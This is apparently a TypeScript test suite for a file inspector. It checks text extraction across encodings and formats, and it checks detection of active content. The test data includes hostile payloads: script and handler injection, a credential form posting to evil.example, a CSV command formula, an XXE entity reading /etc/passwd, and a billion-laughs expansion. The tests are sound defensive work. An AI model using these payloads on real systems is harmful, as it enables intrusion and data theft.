import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MAX_TEXT_CHARACTERS } from '../../../node/inspection/limits.ts';
import { codesOf, inspected, saidIn, wordDocument, zipOf } from '../../support/inspected.ts';

const WORDS = 'Übernahme für 10 €';

function utf16be(text: string, mark: boolean): Uint8Array {
  return Buffer.from(`${mark ? '\ufeff' : ''}${text}`, 'utf16le').swap16();
}

describe('the text of a file', () => {
  const encoded: readonly (readonly [string, Uint8Array])[] = [
    ['UTF-8', Buffer.from(WORDS)],
    ['UTF-8 with a mark', Buffer.from(`\ufeff${WORDS}`)],
    ['UTF-16 LE with a mark', Buffer.from(`\ufeff${WORDS}`, 'utf16le')],
    ['UTF-16 LE', Buffer.from(WORDS, 'utf16le')],
    ['UTF-16 BE with a mark', utf16be(WORDS, true)],
    ['UTF-16 BE', utf16be(WORDS, false)],
    ['windows-1252', Buffer.from(WORDS.replace('€', '\x80'), 'latin1')],
  ];
  for (const [encoding, bytes] of encoded) {
    it(`is read in ${encoding}`, async () => {
      assert.deepEqual((await inspected('a.txt', bytes)).texts, [{ place: 'a.txt', text: WORDS }]);
    });
  }

  it('in JSON is read with its escapes resolved', async () => {
    assert.match(saidIn(await inspected('a.json', '{"a": "\\u0073ecret"}')), /secret/);
  });

  it('in HTML is read without tags, and with what comments and attributes say', async () => {
    const found = await inspected(
      'a.html',
      '<html><p>in<b>sid</b>er &amp; co<!-- hidden --><img alt="seen"><style>no</style></p><p>x</p>',
    );
    assert.equal(found.type, 'text/html');
    assert.equal(saidIn(found), 'insider & co\nx\n hidden \nseen\nno\n');
  });

  it('in XML is read, in the encoding that it says', async () => {
    const xml = Buffer.from(
      '<?xml version="1.0" encoding="koi8-r"?><a><b>\xf2\xd5\xd3\xd8</b><c>x</c></a>',
      'latin1',
    );
    assert.equal(saidIn(await inspected('a.xml', xml)), 'Русь\nx\n');
  });

  it('of an e-mail is read with its header and its files', async () => {
    const mail = [
      'From: "A" <a@acme.example>',
      'To: b@globex.example',
      'Subject: =?utf-8?Q?=C3=9Cbernahme?=',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=x',
      '',
      '--x',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from('the words of it').toString('base64'),
      '--x',
      'Content-Type: application/octet-stream',
      'Content-Disposition: attachment; filename="report.docx"',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(wordDocument('in the report')).toString('base64'),
      '--x--',
      '',
    ].join('\r\n');
    const found = await inspected('mail.eml', mail, 'message/rfc822');
    assert.deepEqual([found.type, found.mismatch, found.failed], ['message/rfc822', false, null]);
    assert.match(saidIn(found), /Subject: Übernahme[\s\S]*the words of it[\s\S]*in the report/);
    assert.deepEqual(
      found.texts.map(({ place }) => place),
      ['mail.eml', 'mail.eml/report.docx'],
    );
  });

  it('is kept up to the limit, and what goes beyond shows', async () => {
    const whole = await inspected('a.txt', 'x'.repeat(MAX_TEXT_CHARACTERS));
    assert.deepEqual([whole.truncated, whole.texts[0]?.text.length], [false, MAX_TEXT_CHARACTERS]);
    const half = 'x'.repeat(MAX_TEXT_CHARACTERS / 2 + 1);
    const more = await inspected('a.zip', zipOf({ 'a.txt': half, 'b.txt': half, 'c.exe': 'x' }));
    assert.equal(more.truncated, true);
    assert.equal(saidIn(more).replaceAll('\n', '').length, MAX_TEXT_CHARACTERS);
    assert.ok(codesOf(more).includes('executable'), 'risks are looked for all the same');
  });
});

describe('active content', () => {
  const active: readonly (readonly [string, string])[] = [
    ['a script', '<html><script>x()</script>'],
    ['a handler', '<html><img src=x onerror=x()>'],
    ['a link that runs', '<html><a href="java\tscript:x()">x</a>'],
    ['a frame', '<html><iframe src="https://evil.example">'],
    ['a form', '<html><form action="https://evil.example"><input name=password></form>'],
    ['a way elsewhere', '<html><meta http-equiv=refresh content="0;url=https://evil.example">'],
    ['a script in a picture', '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'],
    ['a handler in a picture', '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'],
  ];
  for (const [what, markup] of active) {
    it(`is told of: ${what}`, async () => {
      assert.deepEqual(codesOf(await inspected('a', markup)), ['active-content']);
    });
  }

  it('is not seen in a page that has none', async () => {
    assert.deepEqual(
      codesOf(await inspected('a', '<html><p>on balance, a script</p><a href="https://a.example">a</a>')),
      [],
    );
    assert.deepEqual(
      codesOf(await inspected('a', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')),
      [],
    );
  });

  it('in a table is a formula that starts a program', async () => {
    assert.deepEqual(codesOf(await inspected('a.csv', `a,b\n1,"=cmd|' /C calc'!A0"\n`)), ['formula']);
    assert.deepEqual(codesOf(await inspected('a.csv', 'a,b\n-1,+2\n=3,x|y!\n')), []);
  });

  it('in XML is an entity, which is not resolved', async () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
    const found = await inspected('a.xml', xml);
    assert.deepEqual(codesOf(found), ['external-content']);
    assert.doesNotMatch(saidIn(found), /root:/);
  });

  it('in XML that multiplies itself takes no room', async () => {
    const levels = Array.from(
      { length: 12 },
      (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
    );
    const xml = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">${levels.join('')}]><a>&l12;</a>`;
    assert.ok(saidIn(await inspected('a.xml', xml)).length < 2_000);
  });
});
